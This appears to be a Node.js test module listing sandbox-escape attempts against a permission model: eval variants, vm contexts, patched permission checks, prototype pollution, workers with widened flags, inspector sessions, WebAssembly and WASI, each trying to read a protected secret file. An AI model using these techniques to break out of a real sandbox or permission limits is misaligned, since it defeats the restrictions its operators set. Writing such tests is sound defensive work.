import fs from 'node:fs';
import inspector from 'node:inspector';
import { createRequire } from 'node:module';
import { pathToFileURL } from 'node:url';
import v8 from 'node:v8';
import vm from 'node:vm';
import { Worker } from 'node:worker_threads';

const { eval: indirect } = globalThis;
const require = createRequire(import.meta.url);

/** A WebAssembly module whose export `r` calls its import `e.f`. */
const CALLER = Buffer.from(
  '0061736d010000000104016000000207010165016600000302010007050101720001' + '0a0601040010000b',
  'hex',
);

/** @param {string} file */
const readIt = (file) =>
  `process.getBuiltinModule('fs').readFileSync(${JSON.stringify(file)}, 'utf8')`;

/** @type {import('./main.mjs').Attempt[]} */
export default [
  ['the `Function` constructor', ({ secret }) => new Function(`return ${readIt(secret)}`)()],
  ['indirect `eval`', ({ secret }) => indirect(readIt(secret))],
  ['`vm.runInThisContext()`', ({ secret }) => vm.runInThisContext(readIt(secret))],
  [
    'the constructor of an object in `vm.runInNewContext()`',
    ({ secret }) =>
      vm.runInNewContext(
        `outer.constructor.constructor('return process')().getBuiltinModule('fs').readFileSync(${JSON.stringify(secret)}, 'utf8')`,
        { outer: {} },
      ),
  ],
  [
    '`import()` of `vm.Script`',
    async ({ module }) =>
      (
        await new vm.Script(`import(${JSON.stringify(pathToFileURL(module).href)})`, {
          importModuleDynamically: vm.constants.USE_MAIN_CONTEXT_DEFAULT_LOADER,
        }).runInThisContext()
      ).default,
  ],
  [
    '`process.permission.has` replaced',
    ({ secret }) =>
      patched(
        process.permission,
        'has',
        () => true,
        () => fs.readFileSync(secret, 'utf8'),
      ),
  ],
  [
    '`String.prototype.startsWith` and `Array.prototype.includes` replaced',
    ({ secret }) =>
      patched(
        String.prototype,
        'startsWith',
        () => true,
        () =>
          patched(
            Array.prototype,
            'includes',
            () => true,
            () => fs.readFileSync(secret, 'utf8'),
          ),
      ),
  ],
  [
    '`Object.prototype.permission`',
    ({ secret }) =>
      polluted('permission', { has: () => true }, () => fs.readFileSync(secret, 'utf8')),
  ],
  [
    '`process.binding()`',
    ({ token }) => {
      process.binding('fs');
      return token();
    },
  ],
  ['a worker with a file', ({ worker }) => message(new Worker(worker))],
  [
    'a worker with code',
    ({ secret }) =>
      message(
        new Worker(`require('worker_threads').parentPort.postMessage(${readIt(secret)})`, {
          eval: true,
        }),
      ),
  ],
  [
    'a worker with its own `execArgv`',
    ({ secret }) =>
      message(
        new Worker(`require('worker_threads').parentPort.postMessage(${readIt(secret)})`, {
          eval: true,
          execArgv: ['--allow-fs-read=*'],
        }),
      ),
  ],
  [
    'an inspector session',
    ({ secret }) =>
      new Promise((resolve, reject) => {
        const session = new inspector.Session();
        session.connect();
        session.post(
          'Runtime.evaluate',
          { expression: readIt(secret), includeCommandLineAPI: true },
          (error, answer) => {
            session.disconnect();
            error ? reject(error) : resolve(answer.result.value);
          },
        );
      }),
  ],
  [
    '`inspector.open()`',
    ({ token }) => {
      inspector.open(0, '127.0.0.1');
      inspector.close();
      return token();
    },
    'It needs `--inspect`',
  ],
  [
    'a host function that WebAssembly imports',
    ({ secret }) => {
      let text;
      const read = () => {
        text = fs.readFileSync(secret, 'utf8');
      };
      const { exports } = new WebAssembly.Instance(new WebAssembly.Module(CALLER), {
        e: { f: read },
      });
      exports.r();
      return text;
    },
  ],
  [
    '`v8.deserialize()`',
    ({ secret }) => v8.deserialize(v8.serialize({ read: fs.readFileSync })).read(secret, 'utf8'),
    'It makes no functions',
  ],
  [
    'WASI with a folder of the host',
    async ({ secret, token }) => {
      const { WASI } = require('node:wasi');
      new WASI({ version: 'preview1', preopens: { '/': secret.replace(/[^/]*$/, '') } });
      return token();
    },
  ],
  [
    '`Polyglot.eval()` of JavaScript',
    ({ secret }) => globalThis.Polyglot.eval('js', readIt(secret)),
    'There is no `Polyglot`',
  ],
  [
    '`Polyglot.eval()` of another language',
    () => globalThis.Polyglot.eval('wasm', ''),
    'There is no `Polyglot`',
  ],
  ['`load()` of the engine', ({ commonjs }) => globalThis.load(commonjs), 'There is no `load()`'],
  [
    '`read()` of the engine',
    ({ secret }) => globalThis.readFully(secret),
    'There is no `readFully()`',
  ],
  [
    '`Graal` and other globals of the engine',
    ({ secret }) => globalThis.Graal.files(secret),
    'It has no such functions',
  ],
];

/** @param {Worker} worker */
function message(worker) {
  return new Promise((resolve, reject) => {
    worker.on('message', (value) => {
      worker.terminate();
      resolve(value);
    });
    worker.on('error', reject);
  });
}

/**
 * @param {any} object
 * @param {string} name
 * @param {unknown} value
 * @param {() => unknown} attempt
 */
function patched(object, name, value, attempt) {
  const saved = Object.getOwnPropertyDescriptor(object ?? {}, name);
  if (object) Object.defineProperty(object, name, { value, configurable: true, writable: true });
  try {
    return attempt();
  } finally {
    if (saved) Object.defineProperty(object, name, saved);
  }
}

/**
 * @param {string} name
 * @param {unknown} value
 * @param {() => unknown} attempt
 */
function polluted(name, value, attempt) {
  Object.defineProperty(Object.prototype, name, { value, configurable: true });
  try {
    return attempt();
  } finally {
    delete Object.prototype[name];
  }
}
